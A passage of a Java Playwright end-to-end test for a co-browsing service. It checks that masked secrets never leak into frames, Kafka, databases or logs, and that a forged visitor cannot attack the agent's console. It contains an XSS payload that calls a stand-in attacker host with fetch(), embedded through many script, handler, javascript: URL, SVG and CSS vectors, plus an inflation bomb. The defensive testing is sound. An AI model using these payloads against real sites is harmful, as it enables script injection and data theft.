package dev.tandem.e2e;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.security.SecureRandom;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicLong;
import java.util.concurrent.atomic.AtomicReference;
import java.util.function.Supplier;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.microsoft.playwright.Browser;
import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Frame;
import com.microsoft.playwright.FrameLocator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.WebSocketFrame;
import com.microsoft.playwright.assertions.LocatorAssertions;
import com.sun.net.httpserver.HttpServer;

import dev.tandem.e2e.support.Chunks;
import dev.tandem.e2e.support.Forged;
import dev.tandem.e2e.support.LeakSearch;
import dev.tandem.e2e.support.RawSocket;
import dev.tandem.e2e.support.SignIn;
import dev.tandem.local.LocalStack;

/**
 * Issue 11, privacy and hostile halves, on one stack (base port 26000):
 * <ol>
 * <li>canaries in every secret the engine masks never appear in any WebSocket frame (both sides, snapshot
 * chunks inflated), Kafka record, database row, log file or the agent's rebuilt DOM, while ordinary text does
 * arrive;</li>
 * <li>a forged visitor (raw WebSocket with a real visitor join token) cannot run script, open a dialog,
 * navigate or make the agent's Chromium call another host, and the console stays usable;</li>
 * <li>a view-only agent's forged control frames do nothing on the visitor's page and are counted and
 * audited;</li>
 * <li>guessed codes, a visitor with only the code, an ended session's token and another site's token get the
 * same refusal as something that does not exist, and code lookups are rate limited.</li>
 * </ol>
 * e2e/README.md lists the cases and their last result.
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class PrivacyAndAbuseTest {

    static final int BASE_PORT = 26000;
    /** A host no page names: the forged documents try to reach it; nothing may. */
    static final int ATTACKER_PORT = BASE_PORT + 99;
    static final String ATTACKER = "http://127.0.0.1:" + ATTACKER_PORT;
    static final String SITE = "demo-insurer";
    static final Pattern CANARY = Pattern.compile("CNRY[-A-Za-z0-9]*");
    static final ObjectMapper JSON = new ObjectMapper();
    static final HttpClient HTTP = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
    static final LocatorAssertions.IsVisibleOptions LONG = new LocatorAssertions.IsVisibleOptions().setTimeout(30_000);

    static LocalStack stack;
    static BrowserStack stage;
    static Browser browser;
    static HttpServer attacker;
    static final List<String> attackerHits = new CopyOnWriteArrayList<>();
    static final String RUN = HexFormat.of().formatHex(new SecureRandom().generateSeed(4));

    @BeforeAll
    static void startTheStack() throws Exception {
        attacker = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), ATTACKER_PORT), 0);
        attacker.createContext("/", exchange -> {
            attackerHits.add(exchange.getRequestMethod() + " " + exchange.getRequestURI());
            exchange.sendResponseHeaders(204, -1);
            exchange.close();
        });
        attacker.start();
        stage = BrowserStack.start("privacy", BASE_PORT);
        stack = stage.stack();
        browser = stage.browser();
    }

    @AfterAll
    static void stopTheStack() {
        if (stage != null) {
            stage.close();
        }
        if (attacker != null) {
            attacker.stop(0);
        }
    }

    // =========================================================================================
    // 1. Canaries
    // =========================================================================================

    /** Every frame one page's WebSockets carried, with snapshot chunks inflated. */
    static final class FrameLog {
        final String side;
        final List<String> texts = new CopyOnWriteArrayList<>();
        final StringBuffer inflated = new StringBuffer();
        final AtomicLong binaryFrames = new AtomicLong();

        FrameLog(String side) {
            this.side = side;
        }

        void watch(Page page) {
            page.onWebSocket(ws -> {
                ws.onFrameSent(f -> record(ws.url(), "sent", f));
                ws.onFrameReceived(f -> record(ws.url(), "received", f));
            });
        }

        private void record(String url, String direction, WebSocketFrame frame) {
            String text = frame.text();
            byte[] binary = frame.binary();
            if (binary != null) {
                binaryFrames.incrementAndGet();
                Chunks.Decoded decoded = Chunks.decode(binary, 256 * 1024 * 1024);
                texts.add(direction + " binary " + decoded.header() + " raw=" + new String(binary, StandardCharsets.ISO_8859_1));
                inflated.append(new String(decoded.payload(), StandardCharsets.UTF_8));
            } else {
                texts.add(direction + " " + text);
            }
        }

        List<String> leaks() {
            List<String> found = new ArrayList<>();
            for (int i = 0; i < texts.size(); i++) {
                found.addAll(LeakSearch.find(CANARY, side + " frame #" + i, texts.get(i)));
            }
            // Records may span parts: the parts' payloads are searched joined as well.
            found.addAll(LeakSearch.find(CANARY, side + " inflated snapshot chunks", inflated.toString()));
            return found;
        }

        boolean contains(String s) {
            return texts.stream().anyMatch(t -> t.contains(s)) || inflated.indexOf(s) >= 0;
        }
    }

    @Test
    @Order(1)
    void noCanaryFromAnyMaskedSecretReachesAFrameATopicARowALogOrTheAgentsPage() throws Exception {
        String r = RUN;
        FrameLog visitorFrames = new FrameLog("visitor");
        FrameLog agentFrames = new FrameLog("agent");

        // The visitor opens the fixture page; secrets preset in the HTML and autofilled before the tag starts.
        BrowserContext visitorContext = browser.newContext(new Browser.NewContextOptions().setViewportSize(1280, 900));
        Page visitor = visitorContext.newPage();
        visitorFrames.watch(visitor);
        String fixture = stack.demoSite().resolve("/privacy-fixture.html").toString();
        visitor.navigate(fixture);
        visitor.getByTestId("chat-toggle").click();
        String chatId = visitor.getByTestId("chat-id").textContent().strip();

        // The demo chat platform invites agent1, who is not signed in yet; the visitor accepts.
        demoChatInvite(chatId, "agent1");
        assertThat(visitor.getByTestId("tandem-consent")).isVisible(LONG);
        visitor.getByTestId("tandem-accept").click();
        assertThat(visitor.getByTestId("tandem-frame")).isVisible(LONG);

        // Before the agent is there: typing, a script-set value, the show-password toggle, moved nodes.
        typeInto(visitor, "#password", "CNRY-typed-password-" + r, true);
        typeInto(visitor, "#card-number", "CNRY-typed-card-" + r, false);
        typeInto(visitor, "#masked-notes", "CNRY-typed-textarea-" + r, false);
        typeInto(visitor, "#masked-input", "CNRY-typed-secret-" + r, false);
        typeInto(visitor, "#editable", "CNRY-typed-editable-" + r, false);
        typeInto(visitor, "#shadow-password", "CNRY-typed-shadow-password-" + r, false);
        visitor.frameLocator("#frame").locator("#frame-password").click();
        visitor.keyboard().press("End");
        visitor.keyboard().type("CNRY-typed-frame-password-" + r);
        visitor.locator("#masked-select").selectOption("CNRY-option-value-1-fixed");
        visitor.evaluate("v => { document.getElementById('script-set').value = v; }", "CNRY-script-set-" + r);
        moveIntoMaskedAreas(visitor, "before-" + r);
        typeInto(visitor, "#plain-input", "PLAIN-typed-before-" + r, false);
        visitor.getByTestId("show-password").click();
        typeInto(visitor, "#password", "CNRY-typed-shown-password-" + r, true);

        // To another page of the site and back (the tag follows the visitor).
        visitor.locator("#to-travel").click();
        assertThat(visitor.locator("h1")).hasText("Travel insurance");
        assertThat(visitor.getByTestId("tandem-frame")).isVisible(LONG);
        visitor.navigate(fixture);
        assertThat(visitor.getByTestId("tandem-frame")).isVisible(LONG);
        visitor.getByTestId("show-password").click();
        typeInto(visitor, "#password", "CNRY-typed-after-navigation-shown-" + r, true);
        typeInto(visitor, "#otp", "CNRY-typed-otp-" + r, false);
        visitor.frameLocator("#frame").locator("#frame-otp").click();
        visitor.keyboard().type("CNRY-typed-frame-otp-" + r);
        visitor.evaluate("v => { document.getElementById('script-set').value = v; }", "CNRY-script-set-again-" + r);
        moveIntoMaskedAreas(visitor, "after-" + r);
        typeInto(visitor, "#plain-input", "PLAIN-typed-after-" + r, false);

        // The agent joins late: signs in through Keycloak now and gets the visitor's page.
        BrowserContext agentContext = browser.newContext(new Browser.NewContextOptions().setViewportSize(1280, 900));
        Page agent = agentContext.newPage();
        agentFrames.watch(agent);
        signInToConsole(agent, "agent1");
        FrameLocator mirrored = agent.frameLocator("tandem-viewer iframe");
        assertThat(mirrored.locator("h1")).hasText("Account security check",
                new LocatorAssertions.HasTextOptions().setTimeout(30_000));
        assertThat(mirrored.locator("#plain-input")).hasValue("PLAIN-typed-after-" + r,
                new LocatorAssertions.HasValueOptions().setTimeout(15_000));

        // While the agent watches.
        typeInto(visitor, "#card-csc", "CNRY-typed-csc-live-" + r, false);
        typeInto(visitor, "#otp", "CNRY-typed-otp-live-" + r, false);
        typeInto(visitor, "#editable", "CNRY-typed-editable-live-" + r, false);
        typeInto(visitor, "#masked-notes", "CNRY-typed-textarea-live-" + r, false);
        typeInto(visitor, "#password", "CNRY-typed-password-live-" + r, true);
        visitor.getByTestId("show-password").click();
        typeInto(visitor, "#password", "CNRY-typed-password-live-toggled-" + r, true);
        visitor.evaluate("v => { document.getElementById('script-set').value = v; }", "CNRY-script-set-live-" + r);
        moveIntoMaskedAreas(visitor, "live-" + r);
        typeInto(visitor, "#plain-input", " PLAIN-typed-live-" + r, false);
        assertThat(mirrored.locator("#plain-input")).hasValue(
                Pattern.compile(".*PLAIN-typed-live-" + r + "$"), new LocatorAssertions.HasValueOptions().setTimeout(15_000));
        assertThat(mirrored.locator("#plain-paragraph")).hasText("PLAIN-paragraph-visible-to-the-agent");

        // The agent's rebuilt page, everywhere: the console, the viewer's iframe, its frames and shadow roots.
        String agentDom = everythingInThePage(agent);
        assertTrue(agentDom.contains("PLAIN-shadow-text"), "the shadow root's ordinary text reached the agent");
        assertTrue(agentDom.contains("PLAIN-frame-text"), "the same-origin frame's ordinary text reached the agent");
        assertTrue(agentDom.contains("••••••"), "masked values show as the placeholder");

        // The visitor ends the session.
        visitor.getByTestId("tandem-end").click();
        assertThat(agent.getByTestId("session-ended")).isVisible(LONG);

        // Search everywhere.
        List<String> leaks = new ArrayList<>();
        leaks.addAll(visitorFrames.leaks());
        leaks.addAll(agentFrames.leaks());
        leaks.addAll(LeakSearch.find(CANARY, "agent DOM", agentDom));
        assertTrue(visitorFrames.contains("PLAIN-typed-before-" + r) && visitorFrames.contains("PLAIN-typed-live-" + r),
                "the visitor's frames carry the ordinary text");
        assertTrue(agentFrames.contains("PLAIN-typed-live-" + r) || agentFrames.contains("PLAIN-typed-after-" + r),
                "the agent's frames carry the ordinary text");
        // The fixture is big enough for binary snapshot chunks: they were decoded and searched.
        assertTrue(visitorFrames.binaryFrames.get() > 0 && visitorFrames.inflated.indexOf("PLAIN-filler paragraph 1499") >= 0,
                "snapshot chunks were sent, inflated and searched (" + visitorFrames.binaryFrames + " binary frames)");

        List<String> summary = new ArrayList<>();
        LeakSearch.Searched kafka = LeakSearch.kafka(stack.kafkaBootstrapServers(), CANARY);
        summary.add(kafka.place() + ": " + kafka.items() + " records");
        leaks.addAll(kafka.findings());
        assertTrue(kafka.place().contains("tandem.gateway-events") && kafka.place().contains("tandem.session-events"),
                "the topics were read: " + kafka.place());
        // The search itself finds what is there: this chat's id is in the invite events.
        assertFalse(LeakSearch.kafka(stack.kafkaBootstrapServers(), Pattern.compile(Pattern.quote(chatId)))
                .findings().isEmpty(), "the Kafka search finds the chat id");
        long rows = 0;
        boolean chatInDb = false;
        for (String db : List.of("invites", "sessions", "siteconfig")) {
            LeakSearch.Searched searched = LeakSearch.database(stack.postgresJdbcUrl(db), "postgres", "postgres", CANARY);
            summary.add(searched.place() + ": " + searched.items() + " rows");
            rows += searched.items();
            leaks.addAll(searched.findings());
            chatInDb |= !LeakSearch.database(stack.postgresJdbcUrl(db), "postgres", "postgres",
                    Pattern.compile(Pattern.quote(chatId))).findings().isEmpty();
        }
        assertTrue(rows > 0 && chatInDb, "the database search reads rows and finds the chat id");
        LeakSearch.Searched logs = LeakSearch.files(stack.logDir(), CANARY);
        summary.add(logs.place() + ": " + logs.items() + " files");
        assertTrue(logs.items() >= 4, "the services' logs are there: " + logs.items());
        leaks.addAll(logs.findings());
        System.out.println("[privacy] searched " + summary + "; visitor frames " + visitorFrames.texts.size()
                + " (binary " + visitorFrames.binaryFrames + "), agent frames " + agentFrames.texts.size()
                + ", agent DOM " + agentDom.length() + " chars");

        assertEquals(List.of(), leaks, "canaries that left the visitor's browser");
        visitorContext.close();
        agentContext.close();
    }

    private static void typeInto(Page page, String selector, String text, boolean replace) {
        page.locator(selector).click();
        if (replace) {
            page.keyboard().press("Control+A");
            page.keyboard().press("Delete");
        } else {
            page.keyboard().press("End");
        }
        page.keyboard().type(text);
    }

    /** A plain node moved into a masked area and changed there; new nodes added to masked places. */
    private static void moveIntoMaskedAreas(Page page, String suffix) {
        page.evaluate("""
                s => {
                  const K = window.CANARY_MARK;
                  const area = document.getElementById('masked-area');
                  const mover = document.getElementById('mover');
                  if (mover) {
                    area.appendChild(mover);
                    mover.textContent = K + '-moved-text-' + s;
                    mover.setAttribute('title', K + '-moved-title-' + s);
                    mover.id = 'moved-' + s;
                  }
                  const p = document.createElement('p');
                  p.textContent = K + '-inserted-text-' + s;
                  p.setAttribute('data-note', K + '-inserted-attr-' + s);
                  area.appendChild(p);
                  const span = document.createElement('span');
                  span.textContent = K + '-shadow-added-' + s;
                  document.getElementById('shadow-masked').shadowRoot.appendChild(span);
                  const frameDoc = document.getElementById('masked-frame').contentDocument;
                  frameDoc.body.appendChild(frameDoc.createTextNode(K + '-masked-frame-added-' + s));
                }""", suffix);
    }

    /** The HTML, field values, shadow roots, CSS rules and frames of a page, as one text. */
    static String everythingInThePage(Page page) {
        StringBuilder all = new StringBuilder();
        for (Frame frame : page.frames()) {
            try {
                all.append(frame.content()).append('\n');
                all.append(frame.evaluate("""
                        () => {
                          const out = [];
                          const seen = new Set();
                          const walk = root => {
                            if (!root || seen.has(root)) return;
                            seen.add(root);
                            out.push(root.documentElement ? root.documentElement.outerHTML : root.innerHTML);
                            for (const el of root.querySelectorAll('*')) {
                              if (typeof el.value === 'string') out.push('value=' + el.value);
                              if (el.shadowRoot) walk(el.shadowRoot);
                              if (el.tagName === 'IFRAME') { try { walk(el.contentDocument); } catch (e) { } }
                            }
                            try {
                              for (const s of [...(root.styleSheets || []), ...(root.adoptedStyleSheets || [])])
                                for (const r of s.cssRules) out.push(r.cssText);
                            } catch (e) { }
                          };
                          walk(document);
                          return out.join('\\n');
                        }""")).append('\n');
            } catch (RuntimeException e) {
                all.append("[frame ").append(frame.url()).append(" unreadable: ").append(e.getMessage()).append("]\n");
            }
        }
        return all.toString();
    }

    // =========================================================================================
    // 2. Hostile visitor
    // =========================================================================================

    /** A visitor that skips the tag: real join token, forged page. */
    static final class ForgedVisitor implements AutoCloseable {
        final String credential;
        final ExecutorService sender = Executors.newSingleThreadExecutor();
        final AtomicLong seq = new AtomicLong();
        final AtomicLong snapshotIds = new AtomicLong();
        final AtomicReference<Supplier<List<Object>>> current = new AtomicReference<>();
        final List<String> problems = new CopyOnWriteArrayList<>();
        volatile RawSocket socket;

        ForgedVisitor(String credential) {
            this.credential = credential;
        }

        void connect() throws Exception {
            String token = visitorJoinToken(credential);
            seq.set(0);
            socket = RawSocket.open(stack.gateway(), "/ws/visitor", origin(stack.demoSite()), token, null, this::heard);
        }

        /** On a resync, a (re)joined agent or a hello that says the agent is there: send the current page. */
        private void heard(String text) {
            try {
                JsonNode frame = JSON.readTree(text);
                String t = frame.path("t").asText();
                boolean wants = "resync".equals(t)
                        || ("peer".equals(t) && "agent".equals(frame.path("role").asText()) && frame.path("connected").asBoolean())
                        || ("hello".equals(t) && frame.path("peerConnected").asBoolean());
                if (wants && current.get() != null) {
                    sender.execute(this::sendCurrent);
                }
            } catch (Exception e) {
                problems.add("unreadable frame: " + e);
            }
        }

        /** Makes {@code page} the visitor's page: sent now and on every resync. */
        void show(Supplier<List<Object>> page) {
            current.set(page);
            try {
                sender.submit(this::sendCurrent).get(60, TimeUnit.SECONDS);
            } catch (Exception e) {
                throw new AssertionError("could not send the forged page: " + e, e);
            }
        }

        /** Sends frames once, without making them the page that a resync gets. */
        void sendOnce(List<Object> frames) {
            try {
                sender.submit(() -> sendAll(frames)).get(60, TimeUnit.SECONDS);
            } catch (Exception e) {
                throw new AssertionError("could not send forged frames: " + e, e);
            }
        }

        private void sendCurrent() {
            sendAll(current.get().get());
        }

        private void sendAll(List<Object> frames) {
            try {
                for (Object frame : frames) {
                    if (frame instanceof byte[] bytes) {
                        socket.sendBinary(bytes);
                    } else {
                        socket.send(frame.toString());
                    }
                }
            } catch (RuntimeException e) {
                problems.add("send failed: " + e);
            }
        }

        /** A text snapshot of the document built by {@code build}. */
        Supplier<List<Object>> textSnapshot(java.util.function.Function<Forged, ObjectNode> build) {
            return () -> {
                long id = snapshotIds.incrementAndGet();
                return List.of(Forged.snapshot(seq.incrementAndGet(), id, pageUrl(), build.apply(new Forged())).toString());
            };
        }

        /** A chunked snapshot: NDJSON records (the first a snapshot without seq), split into deflated parts. */
        Supplier<List<Object>> chunked(java.util.function.LongFunction<List<byte[]>> rawParts) {
            return () -> {
                long id = snapshotIds.incrementAndGet();
                List<byte[]> parts = rawParts.apply(id);
                List<Object> frames = new ArrayList<>();
                for (int i = 0; i < parts.size(); i++) {
                    frames.add(Chunks.frame(String.valueOf(id), seq.incrementAndGet(), i, i == parts.size() - 1, parts.get(i)));
                }
                return frames;
            };
        }

        @Override
        public void close() {
            sender.shutdownNow();
            if (socket != null) {
                socket.close();
            }
        }
    }

    static String pageUrl() {
        return stack.demoSite().resolve("/forged.html").toString();
    }

    @Test
    @Order(2)
    void aForgedVisitorCannotRunCodeNavigateOrReachAnotherHostInTheAgentsConsole() throws Exception {
        // agent2 signs in to the console and waits.
        BrowserContext agentContext = browser.newContext(new Browser.NewContextOptions().setViewportSize(1280, 900));
        List<String> dialogs = new CopyOnWriteArrayList<>();
        List<String> foreignRequests = new CopyOnWriteArrayList<>();
        List<String> blockedAttempts = new CopyOnWriteArrayList<>();
        List<String> navigations = new CopyOnWriteArrayList<>();
        // Chromium reports requests its CSP blocks too (they fail with net::ERR_BLOCKED_BY_CSP and never leave):
        // those are noted; a request to another host that is answered or fails otherwise went out.
        agentContext.onRequestFinished(request -> {
            if (foreign(request.url())) {
                foreignRequests.add("finished " + request.url());
            }
        });
        agentContext.onRequestFailed(request -> {
            if (foreign(request.url())) {
                String why = String.valueOf(request.failure());
                (blockedByCsp(why) ? blockedAttempts : foreignRequests).add(request.url() + " (" + why + ")");
            }
        });
        Page agent = agentContext.newPage();
        agent.onDialog(d -> {
            dialogs.add(d.type() + ": " + d.message());
            d.dismiss();
        });
        signInToConsole(agent, "agent2");
        String consoleUrl = agent.url();
        String consoleBase = stack.gateway().resolve("/console/").toString();
        agent.onFrameNavigated(f -> {
            if (f == agent.mainFrame() && !f.url().startsWith(consoleBase)) {
                navigations.add(f.url());
            }
        });

        Invite invite = invite("agent2", "hostile-visitor-" + RUN, SITE, "VIEW_ONLY");
        try (ForgedVisitor visitor = new ForgedVisitor(invite.credential())) {
            FrameLocator view = agent.frameLocator("tandem-viewer iframe");
            visitor.current.set(visitor.textSnapshot(f -> hostilePage(f, "HOSTILE-STEP-1")));
            visitor.connect();
            visitor.show(visitor.current.get());
            assertThat(view.locator("#step")).hasText("HOSTILE-STEP-1", new LocatorAssertions.HasTextOptions().setTimeout(30_000));
            noHarm(agent, dialogs, foreignRequests, navigations, consoleUrl, "the forged snapshot");

            // Forged changes on top of it: every attribute and node that could run or fetch.
            visitor.sendOnce(hostileMutations(visitor));
            visitor.show(visitor.textSnapshot(f -> hostilePage(f, "HOSTILE-STEP-2")));
            assertThat(view.locator("#step")).hasText("HOSTILE-STEP-2", new LocatorAssertions.HasTextOptions().setTimeout(30_000));
            noHarm(agent, dialogs, foreignRequests, navigations, consoleUrl, "forged mutations and input");

            // Deep nesting the gateway still relays (JSON depth under 500), and an enormous chunked document.
            visitor.show(visitor.textSnapshot(f -> nested(f, 200, "HOSTILE-STEP-3")));
            assertThat(view.locator("#step")).hasText("HOSTILE-STEP-3", new LocatorAssertions.HasTextOptions().setTimeout(30_000));
            visitor.show(visitor.chunked(id -> hugeDocument(id, 60_000, "HOSTILE-STEP-4")));
            assertThat(view.locator("#step")).hasText("HOSTILE-STEP-4", new LocatorAssertions.HasTextOptions().setTimeout(60_000));
            noHarm(agent, dialogs, foreignRequests, navigations, consoleUrl, "deep and enormous documents");

            // Inside a chunk the gateway cannot look: 5,000 levels deep, then a part that inflates past 128 MiB.
            Supplier<List<Object>> step5 = visitor.textSnapshot(f -> hostilePage(f, "HOSTILE-STEP-5"));
            visitor.current.set(step5);
            visitor.sendOnce(visitor.chunked(id -> deepChunked(id, 5_000)).get());
            visitor.sendOnce(visitor.chunked(PrivacyAndAbuseTest::inflationBomb).get());
            visitor.show(step5);
            assertThat(view.locator("#step")).hasText("HOSTILE-STEP-5", new LocatorAssertions.HasTextOptions().setTimeout(60_000));
            noHarm(agent, dialogs, foreignRequests, navigations, consoleUrl, "deep chunks and an inflation bomb");

            // Nesting beyond the gateway's limit closes the visitor with 1007; the console is untouched.
            RawSocket first = visitor.socket;
            visitor.sendOnce(List.of(tooDeepSnapshot(visitor, 1_000)));
            assertEquals(1007, first.closed().get(15, TimeUnit.SECONDS), "too deep: malformed");

            // The console still works: a fresh connection's ordinary page shows, and End ends the session.
            visitor.current.set(visitor.textSnapshot(f -> ordinaryPage(f, "HOSTILE-FINAL")));
            visitor.connect();
            visitor.show(visitor.current.get());
            assertThat(view.locator("#step")).hasText("HOSTILE-FINAL", new LocatorAssertions.HasTextOptions().setTimeout(30_000));
            noHarm(agent, dialogs, foreignRequests, navigations, consoleUrl, "the whole hostile session");
            assertEquals(List.of(), visitor.problems);
            System.out.println("[hostile visitor] requests to other hosts the agent's CSP blocked before they left: "
                    + blockedAttempts.size() + " " + new TreeSet<>(blockedAttempts.stream().map(u -> u.replaceAll(" \\(.*", "")).toList()));
            agent.getByTestId("end-session").click();
            RawSocket last = visitor.socket;
            org.awaitility.Awaitility.await().atMost(Duration.ofSeconds(20))
                    .until(() -> last.received().stream().anyMatch(t -> t.contains("\"ended\"")));
            assertThat(agent.getByTestId("waiting")).isVisible(LONG);
        }
        agentContext.close();
    }

    /** Chromium's reason for a request its CSP stopped before it left ("csp", or net::ERR_BLOCKED_BY_CSP). */
    static boolean blockedByCsp(String failure) {
        return "csp".equals(failure) || failure.contains("ERR_BLOCKED_BY_CSP");
    }

    /**
     * Stricter than the case above: the forged page's resources on another host are not even attempted (the
     * viewer's sanitiser drops them, the CSP is only the second guard).
     */
    @Test
    @Order(3)
    void aForgedPagesResourcesOnAnotherHostAreNotEvenAttemptedByTheAgentsChromium() throws Exception {
        BrowserContext agentContext = browser.newContext(new Browser.NewContextOptions().setViewportSize(1280, 900));
        List<String> attempts = new CopyOnWriteArrayList<>();
        agentContext.onRequest(request -> {
            if (foreign(request.url())) {
                attempts.add(request.url());
            }
        });
        Page agent = agentContext.newPage();
        agent.onDialog(d -> d.dismiss());
        signInToConsole(agent, "agent2");
        Invite invite = invite("agent2", "hostile-resources-" + RUN, SITE, "VIEW_ONLY");
        try (ForgedVisitor visitor = new ForgedVisitor(invite.credential())) {
            visitor.current.set(visitor.textSnapshot(f -> hostilePage(f, "HOSTILE-RESOURCES")));
            visitor.connect();
            visitor.show(visitor.current.get());
            FrameLocator view = agent.frameLocator("tandem-viewer iframe");
            assertThat(view.locator("#step")).hasText("HOSTILE-RESOURCES", new LocatorAssertions.HasTextOptions().setTimeout(30_000));
            // Resources load after the document: give them until the view's own images have settled.
            // (not NETWORKIDLE: the console keeps its socket open)
            com.microsoft.playwright.Frame viewFrame = agent.locator("tandem-viewer iframe").elementHandle().contentFrame();
            agent.waitForCondition(() -> Boolean.TRUE.equals(viewFrame.evaluate(
                    "() => document.readyState === 'complete' && Array.from(document.images).every((i) => i.complete)")),
                    new Page.WaitForConditionOptions().setTimeout(30_000));
            assertEquals(List.of(), attempts, "requests the agent's Chromium attempted to another host");
            agent.getByTestId("end-session").click();
            assertThat(agent.getByTestId("waiting")).isVisible(LONG);
        }
        agentContext.close();
    }

    /** Not the stack (localhost on the base port's thousand) and not data:, blob: or about:. */
    static boolean foreign(String url) {
        URI uri = URI.create(url);
        String scheme = uri.getScheme();
        return !"data".equals(scheme) && !"blob".equals(scheme) && !"about".equals(scheme)
                && !("localhost".equals(uri.getHost()) && uri.getPort() / 1000 == BASE_PORT / 1000);
    }

    private static void noHarm(Page agent, List<String> dialogs, List<String> foreignRequests, List<String> navigations,
            String consoleUrl, String after) {
        Object pwned = agent.evaluate("() => [window.__pwned, document.title].join('|')");
        assertEquals(List.of(), dialogs, "dialogs after " + after);
        assertEquals(List.of(), foreignRequests, "requests to hosts the page did not name, after " + after);
        assertEquals(List.of(), attackerHits, "the attacker's server was reached, after " + after);
        assertEquals(List.of(), navigations, "the console navigated, after " + after);
        assertTrue(agent.url().startsWith(stack.gateway().resolve("/console/").toString()), "the console is at " + agent.url());
        assertFalse(String.valueOf(pwned).contains("PWNED") || !String.valueOf(pwned).startsWith("|"),
                "a forged script ran in the console: " + pwned);
        for (Frame frame : agent.frames()) {
            assertFalse(frame.url().startsWith(ATTACKER) || frame.url().startsWith("javascript:"),
                    "a frame of the console is at " + frame.url());
        }
    }

    static final String RUN_JS = "top.__pwned='PWNED';parent.__pwned='PWNED';document.title='PWNED';"
            + "alert('PWNED');fetch('" + ATTACKER + "/script')";

    /** Scripts in all their disguises, handlers, javascript: URLs, srcdoc, refresh, base, forms, SVG, CSS fetches. */
    static ObjectNode hostilePage(Forged f, String step) {
        String a = ATTACKER;
        ObjectNode head = f.el("head", Map.of(),
                f.el("meta", Map.of("http-equiv", "refresh", "content", "0;url=" + a + "/refresh")),
                f.el("meta", Map.of("http-equiv", "Content-Security-Policy", "content", "script-src *")),
                f.el("base", Map.of("href", a + "/base/")),
                f.el("script", Map.of(), f.text(RUN_JS)),
                f.el("script", Map.of("src", a + "/script.js")),
                f.el("link", Map.of("rel", "stylesheet", "href", a + "/sheet.css")),
                f.el("link", Map.of("rel", "prefetch", "href", a + "/prefetch")),
                f.el("link", Map.of("rel", "preload", "as", "image", "href", a + "/preload.png")),
                f.el("link", Map.of("rel", "icon", "href", a + "/favicon.ico")),
                f.el("style", Map.of(), f.text("@import url(" + a + "/import.css); body { background: url(" + a
                        + "/bg.png) } @font-face { font-family: x; src: url(" + a + "/font.woff) } h1 { font-family: x }")));
        ObjectNode body = f.el("body", Map.of("onload", RUN_JS, "background", a + "/body-bg.png"),
                f.el("h1", Map.of("id", "step"), f.text(step)),
                f.el("img", Map.of("src", "x", "onerror", RUN_JS)),
                f.el("img", Map.of("src", a + "/img.png", "srcset", a + "/img2.png 2x")),
                f.el("a", Map.of("id", "js-link", "href", "javascript:" + RUN_JS), f.text("a javascript: link")),
                f.el("a", Map.of("id", "ping-link", "href", a + "/link", "ping", a + "/ping"), f.text("a link")),
                f.el("iframe", Map.of("srcdoc", "<script>" + RUN_JS + "</script><img src='" + a + "/srcdoc.png'>")),
                f.el("iframe", Map.of("src", "javascript:" + RUN_JS)),
                f.el("iframe", Map.of("src", a + "/frame")),
                f.el("object", Map.of("data", a + "/object")),
                f.el("embed", Map.of("src", a + "/embed")),
                f.el("video", Map.of("poster", a + "/poster.png", "src", a + "/video.mp4", "autoplay", "")),
                f.el("audio", Map.of("src", a + "/audio.mp3", "autoplay", "")),
                f.el("form", Map.of("action", a + "/form", "method", "post"),
                        f.el("input", Map.of("name", "q", "value", "x", "autofocus", "", "onfocus", RUN_JS)),
                        f.el("button", Map.of("formaction", "javascript:" + RUN_JS), f.text("go")),
                        f.el("input", Map.of("type", "image", "src", a + "/input.png"))),
                f.el("div", Map.of("style", "background-image: url(" + a + "/inline.png)", "onmouseover", RUN_JS),
                        f.text("styled")),
                f.el("details", Map.of("open", "", "ontoggle", RUN_JS), f.text("details")),
                f.svg("svg", Map.of("onload", RUN_JS, "width", "10", "height", "10"),
                        f.svg("script", Map.of(), f.text(RUN_JS)),
                        f.svg("script", Map.of("href", a + "/svg-script.js")),
                        f.svg("image", Map.of("href", a + "/svg-image.png")),
                        f.svg("a", Map.of("href", "javascript:" + RUN_JS), f.svg("text", Map.of(), f.text("svg link"))),
                        f.svg("animate", Map.of("attributeName", "href", "values", "javascript:" + RUN_JS)),
                        f.svg("foreignObject", Map.of(), f.el("img", Map.of("src", "x", "onerror", RUN_JS)))),
                f.el("noscript", Map.of(), f.text("<img src=" + a + "/noscript.png>")),
                f.el("template", Map.of(), f.el("script", Map.of(), f.text(RUN_JS))),
                f.el("math", Map.of("href", "javascript:" + RUN_JS), f.text("math")),
                f.el("p", Map.of(), f.text("<script>" + RUN_JS + "</script> as text is only text")));
        return f.document(head, body);
    }

    /**
     * Changes to the forged page: new scripts under, and handler attributes, URLs and CSS on, every node id of
     * the forged page (1..60), and a forged input value.
     */
    static List<Object> hostileMutations(ForgedVisitor visitor) {
        long snapshotId = visitor.snapshotIds.get();
        ObjectNode m = JSON.createObjectNode().put("t", "mutations").put("seq", visitor.seq.incrementAndGet())
                .put("snapshotId", snapshotId);
        m.putArray("removes");
        var adds = m.putArray("adds");
        Forged g = new Forged();
        for (int i = 0; i < 100_000; i++) {
            g.nextId(); // the added nodes' ids start above the forged page's
        }
